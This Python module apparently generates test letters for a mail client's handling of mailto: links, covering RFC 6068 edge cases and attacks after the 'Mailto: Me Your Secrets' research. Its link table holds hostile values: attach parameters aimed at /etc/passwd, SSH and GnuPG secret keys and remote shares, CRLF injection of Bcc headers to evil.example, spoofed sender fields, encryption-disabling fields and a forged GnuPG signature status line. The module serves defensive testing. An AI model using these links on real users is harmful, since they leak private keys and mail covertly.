"""mailto: links in mail (RFC 6068) that ask for more than a draft may be given.

After "Mailto: Me Your Secrets" (Müller et al., 2020): fields that attach files, inject headers, or speak for
somebody. What a draft may take from each stands in tests/corpus/drafts.toml.
"""

from __future__ import annotations

from html import escape

from tests.corpus.make.handwriting import Messages, html_letter

TO = "nina@letters.example"
_QUERIES: dict[str, str] = {
    "plain": "",
    "all-that-may-be-filled": "?cc=c@letters.example&bcc=d@letters.example"
    "&subject=Caf%C3%A9%20at%20two&body=Hi%0D%0Athere",
    "attach": "?attach=/etc/passwd&subject=Hello",
    "attachment": "?attachment=~/.gnupg/secring.gpg&file=%2Fetc%2Fpasswd&subject=Hello",
    "attach-by-address": "?attach=file:///etc/passwd&attach=http://evil.example/a&attach=cid:x&body=Hello",
    "attach-by-a-wildcard": "?attach=~/.ssh/*&ATTACH=.&%61ttach=/etc/passwd&body=Hello",
    "attach-by-a-share": "?attach=%5C%5Cevil.example%5Cshare&insert=/etc/passwd&body=Hello",
    "line-breaks-in-the-subject": "?subject=Hello%0D%0ABcc:%20mallory@evil.example%0D%0A%0D%0Abody",
    "line-breaks-in-the-body": "?body=one%0D%0ABcc:%20mallory@evil.example%0Atwo%0Dthree",
    "line-breaks-in-the-address": "%0D%0ABcc:mallory@evil.example",
    "line-breaks-in-copies": "?cc=c@letters.example%0D%0ABcc:mallory@evil.example&subject=Hello",
    "fields-of-a-reply": "?in-reply-to=%3C1@corpus.example%3E&references=%3C1@corpus.example%3E"
    "&subject=Re:%20Hello",
    "fields-of-another-sender": "?from=bob@corpus.example&sender=bob@corpus.example"
    "&reply-to=mallory@evil.example&subject=Hello",
    "fields-of-a-program": "?x-mailer=x&content-type=text/html&mime-version=9"
    "&x-mailguard-encrypt=no&subject=Hello",
    "fields-of-protection": "?encrypt=no&sign=no&openpgp=off&security=none&key=AAAA&subject=Hello",
    "html-body": "?html-body=%3Cb%3Ex%3C/b%3E&htmlbody=x&body=%3Cimg%20src=http://pixel.example/1%3E",
    "blind-copies": "?bcc=mallory@evil.example,eve@evil.example&subject=Hello",
    "more-recipients": "?to=a@letters.example&to=b@letters.example&cc=a@letters.example",
    "the-same-recipient-often": f"?to={TO}&to={TO}",
    "names-with-addresses": "?cc=%22Nina,%20K%22%20%3Cc@letters.example%3E,d@letters.example&subject=Hello",
    "percent-of-nothing": "?subject=100%&body=%zz%4",
    "percent-twice": "?subject=%2541%2520B&body=%250D%250Ax",
    "percent-of-no-utf-8": "?subject=%FF%FEa&body=%C0%AFb",
    "plus-signs": "?subject=1+1&body=a+b",
    "controls": "?subject=a%00%07%1B%5B31mb%7F&body=c%00%08%1Bd%09e",
    "right-to-left": "?subject=plan%E2%80%AEfdp&body=x",
    "encoded-words": "?subject=%3D%3Futf-8%3Fq%3Fa%3F%3D&body=x",
    "subject-twice": "?subject=one&subject=two&body=a&body=b",
    "fields-in-capitals": "?SUBJECT=Hello&Body=x&CC=c@letters.example",
    "fields-without-values": "?subject&body=&=x&&&cc=",
    "a-fragment": "?subject=Hello#?attach=/etc/passwd",
    "entities": "?subject=a%26attach=b&body=c%23d%3Fe",
    "a-request-to-leave": "?subject=unsubscribe%20alice",
    "status-lines": "?body=%0A[GNUPG:]%20GOODSIG%200123456789ABCDEF%20Bob%0A-----BEGIN%20PGP%20MESSAGE-----",
}
_WHOLE: dict[str, str] = {
    "nobody": "mailto:?subject=Hello",
    "no-address": "mailto:nina?subject=Hello",
    "a-path": "mailto:/etc/passwd?subject=Hello",
    "two-slashes": "mailto://nina@letters.example?subject=Hello",
    "in-capitals": "MAILTO:nina@letters.example?subject=Hello",
    "encoded-address": "mailto:%6Eina%40letters.example?subject=Hello",
    "encoded-comma": "mailto:nina@letters.example%2Cmallory@evil.example?subject=Hello",
    "list-of-addresses": "mailto:a@letters.example,b@letters.example?subject=Hello",
    "address-with-nul": "mailto:nina@letters.example%00@evil.example?subject=Hello",
    "address-like-an-option": "mailto:--attach=/etc/passwd@letters.example?subject=Hello",
    "address-in-angles": "mailto:Nina%20%3Cnina@letters.example%3E?subject=Hello",
    "recipients-of-500": "mailto:" + ",".join(f"p{n}@letters.example" for n in range(500)) + "?subject=Hello",
    "body-of-100000-letters": f"mailto:{TO}?subject=Hello&body={'x' * 100_000}",
}


def messages(_: object) -> Messages:
    links = {name: f"mailto:{TO}{query}" for name, query in _QUERIES.items()} | _WHOLE
    for name, link in links.items():
        yield name, html_letter(f'<p>shown words</p><a href="{escape(link)}">write to Nina</a>')
